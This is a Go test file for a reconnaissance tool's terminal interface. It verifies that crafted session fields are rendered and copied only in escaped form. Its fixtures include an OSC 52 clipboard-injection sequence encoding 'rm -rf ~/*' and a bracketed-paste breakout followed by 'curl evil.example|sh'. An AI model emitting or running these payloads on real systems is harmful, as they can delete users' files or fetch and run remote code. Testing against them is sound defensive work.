package tui

import (
	"strings"
	"testing"

	"github.com/netspecter/netspecter-tui/pivot"
	"github.com/netspecter/netspecter-tui/recon"
	"github.com/netspecter/netspecter-tui/recon/sanitize"
	"github.com/netspecter/netspecter-tui/tui/detail"
)

// unsafeFrame returns the first line of a frame that is not safe to print:
// with the ASCII profile lipgloss emits no escape sequence, so every line
// of every frame must pass sanitize.Safe (no C0/C1, ESC, DEL, bidi,
// invisible or format character, no run of combining marks).
func unsafeFrame(frame string) (int, string, bool) {
	for i, ln := range strings.Split(frame, "\n") {
		if !sanitize.Safe(ln) {
			return i, ln, true
		}
	}
	return 0, "", false
}

// tour drives the workbench through every view of every node: tree and
// the whole detail of each node (all expanded), the false-positive picker,
// the quick links, the module picker, the note prompt, clusters, matrix,
// timeline, help, sources and search. Frames go to h.frames.
func tour(h *harness) {
	a := h.a
	for _, id := range a.s.NodeIDs() {
		a.tree.SetOpen(id, true)
	}
	a.tree.Refresh()
	first := true
	for _, id := range a.s.NodeIDs() {
		if !a.tree.Select(id) {
			continue
		}
		a.sync()
		h.frames = append(h.frames, a.View())
		// the whole detail, not only the visible window
		n := a.tree.Selected()
		in := detail.Input{Session: a.s, Node: n, Width: a.detail.Width(), Now: now, Clusters: a.clu.list, InClusters: a.s.ClusterOf(n.Entity.Key)}
		h.frames = append(h.frames, detail.Title(n)+"\n"+detail.Render(a.st, in))
		if n.Entity.Scan != nil || first {
			h.keys("x", "esc", "o", "esc")
		}
		if first {
			h.keys("m", "esc", "n", "esc", "y")
			first = false
		}
	}
	h.keys("c", "v", "v", "v", "1", "2", "3", "esc", "c")
	h.keys("t", "esc", "?", "esc", "p", "esc", "/")
	h.typeText("nova")
	h.keys("enter", "n", "esc")
}

// TestCraftedSessionNoControlBytes opens testdata/sessions/escapes.json
// (escapes, bidi and invisible characters and combining marks in every
// free-text field) and checks that no frame carries any of them raw.
func TestCraftedSessionNoControlBytes(t *testing.T) {
	s, err := pivot.Load("../testdata/sessions/escapes.json")
	if err != nil {
		t.Fatal(err)
	}
	h := newHarness(t, Options{Session: s, SessionPath: "case\x1b]0;path\x07.json"})
	tour(h)
	all := strings.Join(h.frames, "\n")
	if !strings.Contains(all, `\x1b]52;c;cm0gLXJmIH4vKg==\x07`) {
		t.Fatal("the crafted values never rendered (escaped): the test would prove nothing")
	}
	for i, f := range h.frames {
		if ln, text, bad := unsafeFrame(f); bad {
			t.Fatalf("frame %d of %d, line %d is not safe: %q", i, len(h.frames), ln, text)
		}
	}
}

// hostileEnumSession builds, in memory (a loaded file cannot hold them:
// Load refuses unknown enums), a session whose enum-like fields hold
// escapes: node kind, state, signal and assessment levels, signal module
// and rule, module status and touch, pivot kind.
func hostileEnumSession() *pivot.Session {
	const esc = "\x1b]0;PWNED\x07\x1b]52;c;cm0gLXJmIH4vKg==\x07\u202e\u200b"
	s := pivot.NewSession(now)
	root := s.AddRoot(recon.Target{Kind: recon.KindDomain, Value: "nova-parcels.com"})
	sig := recon.Signal{Level: recon.Level("red" + esc), Text: "young" + esc, Module: "whois" + esc, Rule: "young-domain" + esc}
	rep := &recon.Report{
		Target: recon.Target{Kind: recon.Kind("domain" + esc), Value: "nova-parcels.com"},
		Modules: map[string]*recon.ModuleResult{
			"whois": {Module: "whois", Status: recon.Status("ok" + esc), Touch: recon.Touch("third-party" + esc),
				Signals: []recon.Signal{sig},
				Pivots:  []recon.Pivot{{Kind: recon.PivotKind("registrar" + esc), Value: "Evil" + esc, Relation: "registrar" + esc}}},
			"dns": {Module: "dns", Status: recon.StatusError, Err: "boom" + esc},
		},
		Assessment: recon.Assessment{Level: recon.Level("red" + esc), Signals: []recon.Signal{sig}},
		Started:    now,
	}
	s.Attach(root.ID, rep, now)
	s.AddChild(root.ID, recon.Pivot{Kind: recon.PivotKind("ip" + esc), Value: "185.220.101.47" + esc, Relation: "A" + esc})
	s.SetState(root.ID, pivot.State("done"+esc), "failed"+esc)
	return s
}

// TestHostileEnumsDisplayedSafely: even if an enum-like field held escapes
// (a session built in memory, bypassing Load's validation), the workbench
// prints it escaped: the signal's module and level, the verdict label, the
// kind badge, statuses and touches, the false-positive picker's labels.
func TestHostileEnumsDisplayedSafely(t *testing.T) {
	h := newHarness(t, Options{Session: hostileEnumSession()})
	tour(h)
	for i, f := range h.frames {
		if ln, text, bad := unsafeFrame(f); bad {
			t.Fatalf("frame %d of %d, line %d is not safe: %q", i, len(h.frames), ln, text)
		}
	}
	// The false-positive picker lists the signal with its level and module escaped.
	h.a.tree.Select(h.a.s.Roots()[0])
	h.a.sync()
	h.keys("x")
	v := h.a.View()
	if h.a.curPicker() == nil || !strings.Contains(v, `[whois\x1b]0;PWNED`) {
		t.Fatalf("false-positive picker:\n%s", v)
	}
}

// TestCopyIsDisplayForm: y puts the escaped display form on the clipboard,
// never raw controls (a WHOIS registrar ending a bracketed paste with
// ESC[201~ and running a command, ^U ^O, bidi overrides, zero-width
// characters), and the toast says the value was escaped; a clean value is
// copied as it is.
func TestCopyIsDisplayForm(t *testing.T) {
	const raw = "NameCheap\x1b[201~\x15\x0fcurl evil.example|sh\n\u202eexe.txt\u200b\u2028"
	s := pivot.NewSession(now)
	root := s.AddRoot(recon.Target{Kind: recon.KindDomain, Value: "nova-parcels.com"})
	reg := s.AddChild(root.ID, recon.Pivot{Kind: recon.PivotRegistrar, Value: raw, Relation: recon.RelRegistrar})
	h := newHarness(t, Options{Session: s})
	h.a.tree.SetOpen(root.ID, true)
	h.a.tree.Refresh()

	h.a.tree.Select(root.ID)
	h.keys("y")
	if len(h.copied) != 1 || h.copied[0] != "nova-parcels.com" || !strings.Contains(h.a.toast.text, "copied nova-parcels.com") {
		t.Fatalf("clean value: copied %q, toast %q", h.copied, h.a.toast.text)
	}

	if !h.a.tree.Select(reg.ID) {
		t.Fatal("registrar node not in the tree")
	}
	h.keys("y")
	if len(h.copied) != 2 {
		t.Fatalf("copied %q", h.copied)
	}
	got := h.copied[1]
	if got != sanitize.Line(raw) || !sanitize.Safe(got) {
		t.Errorf("copied %q, want the display form %q", got, sanitize.Line(raw))
	}
	for _, r := range got {
		if r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || sanitize.Bad(r) {
			t.Fatalf("copied text holds %U: %q", r, got)
		}
	}
	if !strings.Contains(got, `\x1b[201~\x15\x0fcurl`) {
		t.Errorf("the escaped form does not show what was there: %q", got)
	}
	if !h.a.toast.err || !strings.Contains(h.a.toast.text, "7 control or invisible characters escaped") {
		t.Errorf("toast %q (error %v), want a warning that says the value was escaped", h.a.toast.text, h.a.toast.err)
	}
	if n := CopyChanges(raw); n != 7 {
		t.Errorf("CopyChanges = %d, want 7 (ESC, ^U, ^O, LF, U+202E, U+200B, U+2028)", n)
	}
}
